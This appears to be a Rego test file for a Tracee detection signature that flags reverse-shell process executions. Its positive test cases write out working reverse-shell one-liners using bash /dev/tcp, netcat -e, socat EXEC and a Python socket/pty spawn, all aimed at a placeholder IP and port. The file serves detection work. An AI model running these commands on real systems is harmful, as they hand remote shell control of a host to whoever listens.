package tracee.TRC_R2P_042_test

import rego.v1

import data.tracee.TRC_R2P_042 as sig
import data.tracee.lib.fixtures as fx

test_metadata if {
	sig.__rego_metadoc__.id == "TRC-R2P-042"
	sig.tracee_selected_events == {{"source": "tracee", "name": "sched_process_exec", "origin": "*"}}
}

test_bash_dev_tcp if {
	ev := fx.exec_event("/usr/bin/bash", ["bash", "-c", "bash -i >& /dev/tcp/203.0.113.9/4444 0>&1"])
	sig.tracee_match == {
		"technique": "shell redirected to /dev/tcp",
		"program": "bash",
		"cmdline": "bash -c bash -i >& /dev/tcp/203.0.113.9/4444 0>&1",
	} with input as ev
}

test_nc_e if {
	ev := fx.container_exec_event("/usr/bin/nc.traditional", ["nc", "203.0.113.9", "4444", "-e", "/bin/sh"])
	sig.tracee_match.technique == "netcat executing a program" with input as ev
}

test_socat_exec if {
	ev := fx.exec_event("/usr/bin/socat", ["socat", "tcp-connect:203.0.113.9:4444", "EXEC:/bin/bash,pty,stderr,setsid"])
	sig.tracee_match.technique == "socat executing a program" with input as ev
}

test_python_one_liner if {
	ev := fx.exec_event("/usr/bin/python3", [
		"python3", "-c",
		"import socket,os,pty;s=socket.socket();s.connect(('203.0.113.9',4444));[os.dup2(s.fileno(),f) for f in (0,1,2)];pty.spawn('/bin/sh')",
	])
	sig.tracee_match.technique == "interpreter socket shell" with input as ev
}

test_plain_netcat_listener if {
	ev := fx.exec_event("/usr/bin/nc.openbsd", ["nc", "-l", "-p", "8080"])
	not sig.tracee_match with input as ev
}

test_socat_port_forward if {
	ev := fx.exec_event("/usr/bin/socat", ["socat", "TCP-LISTEN:8080,fork", "TCP:127.0.0.1:80"])
	not sig.tracee_match with input as ev
}

test_python_http_server if {
	ev := fx.exec_event("/usr/bin/python3", ["python3", "-m", "http.server", "8000"])
	not sig.tracee_match with input as ev
}
